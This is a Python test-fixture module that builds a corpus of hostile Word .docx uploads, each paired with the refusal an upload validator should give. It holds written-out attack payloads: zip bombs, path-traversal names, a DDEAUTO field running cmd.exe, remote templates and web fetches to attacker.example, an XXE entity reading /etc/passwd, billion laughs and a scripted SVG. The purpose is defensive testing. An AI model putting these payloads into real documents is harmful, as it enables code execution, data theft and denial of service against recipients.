"""Hostile Word files, made in code: zip bombs, macros in every disguise, ActiveX and OLE objects, attached
templates and other links outside the file, DTDs and entities, bad encodings, NUL bytes, damaged packages and
huge parts. Each is a good .docx changed in one way, listed in CORPUS with the words its refusal starts with.
Shared by tests/unit/test_docx_package.py and the upload tests in tests/app."""
from __future__ import annotations

import functools
import io
import random
import re
import struct
import warnings
import zipfile

from docx import Document

from casework.letters import SAMPLE_LOGO

MB = 1024 * 1024
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE_R = "http://schemas.openxmlformats.org/package/2006/relationships"
MS = "http://schemas.microsoft.com/office"
DOCUMENT_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def plain_docx(*paragraphs: str) -> bytes:
    """A good .docx as python-docx saves it, one paragraph for each text."""
    document = Document()
    for text in paragraphs or ("Dear {{ employee.name }},",):
        document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


BASE = plain_docx()


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return {name: package.read(name) for name in package.namelist()}


def repack(data: bytes = BASE, put: dict[str, bytes | str] | None = None, drop: tuple[str, ...] = (),
           method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """`data` with parts replaced or added (`put`) and others left out (`drop`)."""
    parts = {name: body for name, body in parts_of(data).items() if name not in drop}
    parts.update({name: body.encode() if isinstance(body, str) else body for name, body in (put or {}).items()})
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method, compresslevel=1) as package:
        for name, body in parts.items():
            package.writestr(name, body)
    return out.getvalue()


def with_entries(data: bytes, entries: list[tuple[str, bytes]]) -> bytes:
    """`data` with raw zip entries appended as they are given (duplicate names too)."""
    out = io.BytesIO(data)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")   # zipfile warns of a duplicate name: that is the point
        with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as package:
            for name, body in entries:
                package.writestr(name, body)
    return out.getvalue()


def with_types(data: bytes = BASE, *entries: str) -> bytes:
    """`data` with more Default or Override entries in [Content_Types].xml."""
    types = parts_of(data)["[Content_Types].xml"].decode()
    return repack(data, {"[Content_Types].xml": types.replace("</Types>", "".join(entries) + "</Types>")})


def override(part: str, content_type: str) -> str:
    return f'<Override PartName="/{part}" ContentType="{content_type}"/>'


def default(extension: str, content_type: str) -> str:
    return f'<Default Extension="{extension}" ContentType="{content_type}"/>'


def with_relationship(data: bytes, rels: str, kind: str, target: str, mode: str | None = None,
                      parts: dict[str, bytes | str] | None = None, types: tuple[str, ...] = ()) -> bytes:
    """`data` with one more relationship in the .rels part `rels` (made if missing), plus parts and types."""
    found = parts_of(data).get(rels)
    text = found.decode() if found else (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                                          f'<Relationships xmlns="{PACKAGE_R}"></Relationships>')
    mode_attribute = f' TargetMode="{mode}"' if mode else ""
    text = text.replace("</Relationships>", f'<Relationship Id="rId900" Type="{kind}" Target="{target}"'
                                            f'{mode_attribute}/></Relationships>')
    return with_types(repack(data, {rels: text, **(parts or {})}), *types)


def with_document(body_xml: str, data: bytes = BASE, prolog: str = "") -> bytes:
    """`data` whose word/document.xml body is `body_xml` (paragraphs in WordprocessingML)."""
    return repack(data, {"word/document.xml": document_xml(body_xml, prolog)})


def document_xml(body_xml: str, prolog: str = "") -> str:
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prolog}<w:document xmlns:w="{W}" '
            f'xmlns:r="{R}"><w:body>{body_xml}</w:body></w:document>')


def paragraph(text: str) -> str:
    return f'<w:p><w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'


@functools.cache
def streamed_document(size: int, name: str = "word/document.xml", data: bytes = BASE) -> bytes:
    """A zip bomb: `data` whose `name` is a paragraph of `size` characters '0', deflated as it is written
    (300 MB packs to about 300 KB) so that making it never holds it whole."""
    head, tail = document_xml(f'<w:p><w:r><w:t>{"@" * 3}</w:t></w:r></w:p>').split("@@@")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as package:
        for item, body in parts_of(data).items():
            if item != name:
                package.writestr(item, body)
        with package.open(name, "w") as member:
            member.write(head.encode())
            chunk, left = b"0" * MB, size
            while left > 0:
                member.write(chunk[:min(left, MB)])
                left -= MB
            member.write(tail.encode())
    return out.getvalue()


def wordy(size: int) -> str:
    """`size` characters of words chosen at random (packs about 10:1, like real text, not like a bomb)."""
    words = " ".join(random.Random(14).choices(["absence", "review", "meeting", "letter", "warning", "appeal",
                                                "stage", "manager", "support", "return", "work", "date", "case",
                                                "trust", "staff", "policy"], k=MB // 6))
    return (words * (size // len(words) + 1))[:size]     # repeated a megabyte apart: beyond deflate's reach


def many_small(count: int, size: int) -> bytes:
    """`count` parts of `size` zeros each: each below the ratio check's threshold, together too large."""
    return with_entries(BASE, [(f"word/media/padding{number}.png", bytes(size)) for number in range(count)])


def lying_sizes(data: bytes, name: str, declared: int) -> bytes:
    """`data` whose zip directory and local header say `name` unpacks to `declared` bytes (it unpacks to more)."""
    raw = bytearray(data)
    encoded = name.encode()
    for signature, size_at in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        name_at = 46 if signature == b"PK\x01\x02" else 30
        for found in re.finditer(re.escape(signature), raw):
            start = found.start()
            length = struct.unpack_from("<H", raw, start + 28 if signature == b"PK\x01\x02" else start + 26)[0]
            if bytes(raw[start + name_at:start + name_at + length]) == encoded:
                struct.pack_into("<I", raw, start + size_at, declared)
    return bytes(raw)


def with_flag(data: bytes, name: str, flag: int) -> bytes:
    """`data` with a general-purpose flag bit set on `name` (bit 0: encrypted) in both headers."""
    raw = bytearray(data)
    encoded = name.encode()
    for signature, flag_at, name_at, length_at in ((b"PK\x01\x02", 8, 46, 28), (b"PK\x03\x04", 6, 30, 26)):
        for found in re.finditer(re.escape(signature), raw):
            start = found.start()
            length = struct.unpack_from("<H", raw, start + length_at)[0]
            if bytes(raw[start + name_at:start + name_at + length]) == encoded:
                struct.pack_into("<H", raw, start + flag_at, struct.unpack_from("<H", raw, start + flag_at)[0] | flag)
    return bytes(raw)


def renamed(data: bytes, old: str, new: bytes) -> bytes:
    """`data` with the entry name `old` written as the raw bytes `new` (same length) in both headers."""
    assert len(old.encode()) == len(new)
    return data.replace(old.encode(), new)


def _document_rel(kind: str, target: str, mode: str | None = None, parts: dict | None = None,
                  types: tuple[str, ...] = ()) -> bytes:
    return with_relationship(BASE, "word/_rels/document.xml.rels", kind, target, mode, parts, types)


def with_footnote(data: bytes, text: str) -> bytes:
    """`data` with a footnotes part whose one footnote says `text`."""
    footnotes = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:footnotes xmlns:w="{W}">'
                 f'<w:footnote w:id="1">{paragraph(text)}</w:footnote></w:footnotes>')
    return with_relationship(data, "word/_rels/document.xml.rels", f"{R}/footnotes", "footnotes.xml",
                             parts={"word/footnotes.xml": footnotes}, types=(override(
                                 "word/footnotes.xml",
                                 "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"),))


def word_like() -> bytes:
    """A good file with what Word's own files hold besides the body: a header with a picture, a footer with a
    PAGE field, footnotes, endnotes, comments and their people, Word 365's intelligence part, a glossary
    (building blocks), custom properties, a sensitivity label and SharePoint's custom XML; plus a stray part
    nothing refers to."""
    document = Document()
    document.add_paragraph("Dear {{ employee.name }},")
    section = document.sections[0]
    section.header.paragraphs[0].add_run("{{ organisation.name }} ").add_picture(io.BytesIO(SAMPLE_LOGO))
    section.footer.paragraphs[0].text = "Page "
    out = io.BytesIO()
    document.save(out)
    data = out.getvalue()
    footer = next(name for name in parts_of(data) if name.startswith("word/footer"))
    data = repack(data, {footer: parts_of(data)[footer].decode().replace(
        "</w:p>", '<w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>', 1)})
    story = f'<w:{{0}} xmlns:w="{W}"><w:{{1}} w:id="1"><w:p><w:r><w:t>Note</w:t></w:r></w:p></w:{{1}}></w:{{0}}>'
    wml = "application/vnd.openxmlformats-officedocument.wordprocessingml"
    for rels, kind, name, body, content_type in (
            ("word/_rels/document.xml.rels", f"{R}/footnotes", "word/footnotes.xml",
             story.format("footnotes", "footnote"), f"{wml}.footnotes+xml"),
            ("word/_rels/document.xml.rels", f"{R}/endnotes", "word/endnotes.xml",
             story.format("endnotes", "endnote"), f"{wml}.endnotes+xml"),
            ("word/_rels/document.xml.rels", f"{R}/comments", "word/comments.xml",
             story.format("comments", "comment"), f"{wml}.comments+xml"),
            ("word/_rels/document.xml.rels", f"{MS}/2011/relationships/people", "word/people.xml",
             f'<w15:people xmlns:w15="{MS}/word/2012/wordml"/>', f"{wml}.people+xml"),
            ("word/_rels/document.xml.rels", f"{MS}/2020/10/relationships/intelligence", "word/intelligence2.xml",
             f'<int2:intelligence xmlns:int2="{MS}/intelligence/2020/intelligence"/>',
             "application/vnd.ms-office.intelligence2+xml"),
            ("word/_rels/document.xml.rels", f"{R}/glossaryDocument", "word/glossary/document.xml",
             f'<w:glossaryDocument xmlns:w="{W}"><w:docParts/></w:glossaryDocument>', f"{wml}.document.glossary+xml"),
            ("_rels/.rels", f"{R}/custom-properties", "docProps/custom.xml",
             '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties"/>',
             "application/vnd.openxmlformats-officedocument.custom-properties+xml"),
            ("_rels/.rels", f"{MS}/2020/02/relationships/classificationlabels", "docMetadata/LabelInfo.xml",
             f'<clbl:labelList xmlns:clbl="{MS}/2020/mipLabelMetadata"/>',
             "application/vnd.ms-office.classificationlabels+xml"),
    ):
        target = name.removeprefix("word/") if rels.startswith("word/") else name
        data = with_relationship(data, rels, kind, target, parts={name: body}, types=(override(name, content_type),))
        data = data.replace(b'Id="rId900"', f'Id="rId9{len(parts_of(data))}"'.encode())
    return with_entries(data, [("word/stray.bin", b"nothing refers to this part")])


SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
BILLION_LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
                  '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>')
XXE = '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
CONTENT_TYPES = parts_of(BASE)["[Content_Types].xml"].decode()
PACKAGE_RELS = parts_of(BASE)["_rels/.rels"].decode()
MACROS = "The file contains macros"
EXTERNAL = "The file links to something outside itself"
BOMB = "The file would unpack to"
RATIO = "The file unpacks to far more than its size"
DAMAGED = "The file is damaged"
NOT_DOCX = "This is not a Word .docx file."
DTD = "The file's XML is not allowed (DTD or entities)"
NOT_UTF8 = "The file's text is not UTF-8"
NAME = "The file has a part whose name is not allowed"
FIELD = "The file has a field that fetches or runs something outside it"
ACCEPTS = "The file holds something Casebook does not accept"


@functools.cache
def corpus() -> list[tuple[str, bytes, str]]:
    """Every hostile file: (what it is, its bytes, the words its refusal starts with)."""
    docm_types = CONTENT_TYPES.replace(DOCUMENT_MAIN, "application/vnd.ms-word.document.macroEnabled.main+xml")
    return [
        ("plain text named .docx", b"Dear {{ employee.name }}, this is not a zip.", NOT_DOCX),
        ("an empty file", b"", NOT_DOCX),
        ("larger than 5 MB", b"PK" + bytes(5 * MB), "The file is larger than 5 MB."),
        ("a zip with no Word document", repack(drop=("word/document.xml",)), NOT_DOCX),
        ("a zip with no content types", repack(drop=("[Content_Types].xml",)), NOT_DOCX),
        ("a zip with no package relationships", repack(drop=("_rels/.rels",)), NOT_DOCX),
        # zip bombs
        ("zip bomb: 300 MB in word/document.xml", streamed_document(300 * MB), BOMB),
        ("zip bomb: 40 MB of zeros in one part (1000:1)", streamed_document(40 * MB), RATIO),
        ("zip bomb: 300 parts of 200 KB zeros", many_small(300, 200 * 1024), BOMB),
        ("zip bomb: sizes in the directory lie", lying_sizes(streamed_document(20 * MB), "word/document.xml", 4096),
         DAMAGED),
        ("zip bomb: 2,000 empty parts", with_entries(BASE, [(f"x/{n}.xml", b"") for n in range(2000)]),
         "The file holds more than 1,000 parts"),
        ("bzip2-packed part", repack(method=zipfile.ZIP_BZIP2), "The file is packed in a way Word does not use"),
        ("encrypted part", with_flag(BASE, "word/document.xml", 0x1), "The file is password-protected"),
        # names
        ("part named ../evil.xml", with_entries(BASE, [("../evil.xml", b"<x/>")]), NAME),
        ("part named /etc/cron.d/evil", with_entries(BASE, [("/etc/cron.d/evil", b"x")]), NAME),
        ("part named with a backslash", with_entries(BASE, [("word\\..\\..\\evil.xml", b"<x/>")]), NAME),
        ("part named C:/evil.xml", with_entries(BASE, [("C:/evil.xml", b"<x/>")]), NAME),
        ("part name with a NUL byte", renamed(with_entries(BASE, [("word/evil.xml#.png", b"x")]),
                                              "word/evil.xml#.png", b"word/evil.xml\x00.png"), NAME),
        ("two parts named word/document.xml", with_entries(BASE, [("word/document.xml", b"<x/>")]),
         "The file holds two parts named"),
        ("parts differing only in case", with_entries(BASE, [("WORD/DOCUMENT.XML", b"<x/>")]),
         "The file holds two parts named"),
        # macros in every disguise
        ("word/vbaProject.bin", with_entries(BASE, [("word/vbaProject.bin", b"macro")]), MACROS),
        ("VBAPROJECT.BIN in capitals elsewhere", with_entries(BASE, [("customXml/VBAPROJECT.BIN", b"macro")]), MACROS),
        ("word/vbaData.xml", with_entries(BASE, [("word/vbaData.xml", b"<x/>")]), MACROS),
        ("macro-enabled main document (.docm)", repack(put={"[Content_Types].xml": docm_types}), MACROS),
        ("macro-enabled type in capitals", with_types(BASE, default("bin", "APPLICATION/VND.MS-OFFICE.VBAPROJECT")),
         MACROS),
        ("macros disguised as word/styles2.dat",
         _document_rel(f"{MS}/2006/relationships/vbaProject", "styles2.dat", parts={"word/styles2.dat": b"macro"},
                       types=(default("dat", "application/octet-stream"),)), MACROS),
        ("macro key bindings (keyMapCustomizations)",
         _document_rel(f"{MS}/2006/relationships/keyMapCustomizations", "customizations.xml",
                       parts={"word/customizations.xml": "<x/>"},
                       types=(override("word/customizations.xml",
                                       "application/vnd.ms-word.keyMapCustomizations+xml"),)), MACROS),
        # ActiveX, OLE, embedded files
        ("ActiveX control",
         _document_rel(f"{R}/control", "activeX/activeX1.xml", parts={"word/activeX/activeX1.xml": "<ax/>"},
                       types=(override("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"),)),
         "The file contains ActiveX controls"),
        ("ActiveX part with no relationship", with_entries(BASE, [("word/activeX/activeX1.bin", b"x")]),
         "The file contains ActiveX controls"),
        ("OLE object",
         _document_rel(f"{R}/oleObject", "embeddings/oleObject1.bin", parts={"word/embeddings/oleObject1.bin": b"ole"},
                       types=(default("bin", "application/vnd.openxmlformats-officedocument.oleObject"),)),
         "The file contains an embedded object"),
        ("OLE object disguised as a picture",
         _document_rel(f"{R}/oleObject", "media/image9.png", parts={"word/media/image9.png": b"ole"},
                       types=(default("png", "image/png"),)), "The file contains an embedded object"),
        ("embedded workbook", _document_rel(f"{R}/package", "embeddings/Book1.xlsx",
                                            parts={"word/embeddings/Book1.xlsx": BASE}),
         "The file contains an embedded object"),
        # links outside the file
        ("remote attached template", with_relationship(
            BASE, "word/_rels/settings.xml.rels", f"{R}/attachedTemplate", "https://attacker.example/t.dotm",
            "External"), "The file is attached to a template"),
        ("local attached template", with_relationship(
            BASE, "word/_rels/settings.xml.rels", f"{R}/attachedTemplate", "file:///C:/Templates/Evil.dotm",
            "External"), "The file is attached to a template"),
        ("attached template in capitals, inside the file", with_relationship(
            BASE, "word/_rels/settings.xml.rels", f"{R.upper()}/ATTACHEDTEMPLATE", "evil.dotm",
            parts={"word/evil.dotm": BASE}), "The file is attached to a template"),
        ("picture linked from the web", _document_rel(f"{R}/image", "http://attacker.example/pixel.png", "External"),
         EXTERNAL),
        ("picture linked from a network share", _document_rel(f"{R}/image", "\\\\attacker\\share\\x.png", "External"),
         EXTERNAL),
        ("hyperlink, TargetMode in lower case", _document_rel(f"{R}/hyperlink", "https://attacker.example",
                                                              "external"), EXTERNAL),
        ("external relationship in another namespace", repack(put={"_rels/.rels": PACKAGE_RELS.replace(
            "</Relationships>", f'<x:Relationship xmlns:x="urn:other" Id="rId9" Type="{R}/image" '
                                f'Target="http://attacker.example/x" TargetMode="External"/></Relationships>')}),
         EXTERNAL),
        ("external template in a .rels nothing reaches", with_entries(BASE, [(
            "word/_rels/orphan.xml.rels", f'<Relationships xmlns="{PACKAGE_R}"><Relationship Id="rId1" '
            f'Type="{R}/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/>'
            "</Relationships>")]), "The file is attached to a template"),
        ("relationship without a target", repack(put={"_rels/.rels": PACKAGE_RELS.replace(
            "</Relationships>", f'<Relationship Id="rId9" Type="{R}/image"/></Relationships>')}), DAMAGED),
        ("sub-document", _document_rel(f"{R}/subDocument", "sub.docx", parts={"word/sub.docx": BASE}), ACCEPTS),
        ("altChunk (imported HTML)", _document_rel(f"{R}/aFChunk", "afchunk.mht", parts={"word/afchunk.mht": "<x/>"},
                                                   types=(default("mht", "message/rfc822"),)), ACCEPTS),
        ("ribbon customisation (customUI)", with_relationship(
            BASE, "_rels/.rels", f"{MS}/2007/relationships/ui/extensibility", "customUI/customUI14.xml",
            parts={"customUI/customUI14.xml": "<customUI/>"}), ACCEPTS),
        ("Office add-in task pane", with_relationship(
            BASE, "_rels/.rels", f"{MS}/2011/relationships/webextensiontaskpanes", "word/webextensions/tp.xml",
            parts={"word/webextensions/tp.xml": "<x/>"}), ACCEPTS),
        ("SVG picture with a script", _document_rel(f"{R}/image", "media/logo.svg", parts={"word/media/logo.svg": SVG},
                                                    types=(default("svg", "image/svg+xml"),)),
         "The file holds a picture Casebook does not accept"),
        ("thumbnail that is a program", with_relationship(
            BASE, "_rels/.rels", f"{PACKAGE_R}/metadata/thumbnail", "docProps/thumb.exe",
            parts={"docProps/thumb.exe": b"MZ"}, types=(default("exe", "application/octet-stream"),)),
         "The file holds a picture Casebook does not accept"),
        ("DDEAUTO field", with_document(
            '<w:p><w:fldSimple w:instr=\' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" \'/></w:p>'),
         FIELD),
        ("DDE field split across runs", with_document(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> dd</w:instrText></w:r>'
            '<w:r><w:instrText>eauto cmd.exe "/c calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/>'
            '</w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'), FIELD),
        ("INCLUDEPICTURE from the web", with_document(
            '<w:p><w:fldSimple w:instr=\' INCLUDEPICTURE "http://attacker.example/x.png" \\d \'/></w:p>'), FIELD),
        ("field name built by a nested QUOTE field", with_document(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            '<w:r><w:instrText>QUOTE 68 68 69 65 85 84 79</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/>'
            '</w:r><w:r><w:instrText> cmd.exe</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'),
         FIELD),
        # the package's own structure
        ("relationship to a part it does not hold", _document_rel(f"{R}/image", "media/missing.png"), DAMAGED),
        ("main document that is a template (.dotx)", repack(put={"[Content_Types].xml": CONTENT_TYPES.replace(
            DOCUMENT_MAIN, "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml")}),
         "This is a Word template (.dotx)"),
        ("two main documents", with_relationship(BASE, "_rels/.rels", f"{R}/officeDocument", "word/document.xml"),
         DAMAGED),
        # XML: DTDs and entities, encodings, NUL bytes, damage, size
        ("billion laughs in [Content_Types].xml", repack(put={"[Content_Types].xml": CONTENT_TYPES.replace(
            "<Types", BILLION_LAUGHS + "<Types", 1)}), DTD),
        ("external entity in _rels/.rels", repack(put={"_rels/.rels": PACKAGE_RELS.replace(
            "<Relationships", XXE + "<Relationships", 1)}), DTD),
        ("external entity in word/document.xml", with_document(paragraph("&xxe;"), prolog=XXE), DTD),
        ("DTD in customXml/item1.xml", repack(put={"customXml/item1.xml": XXE + "<r>&xxe;</r>"}), DTD),
        ("Latin-1 bytes in word/document.xml", repack(put={"word/document.xml": document_xml(
            paragraph("Caf\u00e9 {{ employee.name }}")).encode("latin-1")}), NOT_UTF8),
        ("word/document.xml in UTF-16", repack(put={"word/document.xml": document_xml(
            paragraph("{{ employee.name }}")).replace('"UTF-8"', '"UTF-16"').encode("utf-16")}), NOT_UTF8),
        ("encoding declared as UTF-7", repack(put={"word/document.xml": document_xml(
            paragraph("+ADw-script+AD4-")).replace('"UTF-8"', '"UTF-7"')}), NOT_UTF8),
        ("NUL byte in word/document.xml", repack(put={"word/document.xml": document_xml(paragraph("a\x00b"))}),
         DAMAGED),
        ("NUL byte in [Content_Types].xml", repack(put={"[Content_Types].xml": CONTENT_TYPES.replace(
            "<Types", "<Types\x00", 1)}), DAMAGED),
        ("XML nested 400 deep (python-docx gives up at 256)", with_document(
            "<w:p>" + "<w:customXml>" * 400 + "</w:customXml>" * 400 + "</w:p>"), DAMAGED),
        ("word/document.xml is not XML", repack(put={"word/document.xml": b"PNG, not XML at all"}), DAMAGED),
        ("unclosed element in a .rels", repack(put={"word/_rels/document.xml.rels": "<Relationships><Relationship"}),
         DAMAGED),
        ("huge field: a 12 MB paragraph", with_document(paragraph("{{ employee.name }}" + wordy(12 * MB))),
         "The file's word/document.xml is larger than 10 MB"),
    ]
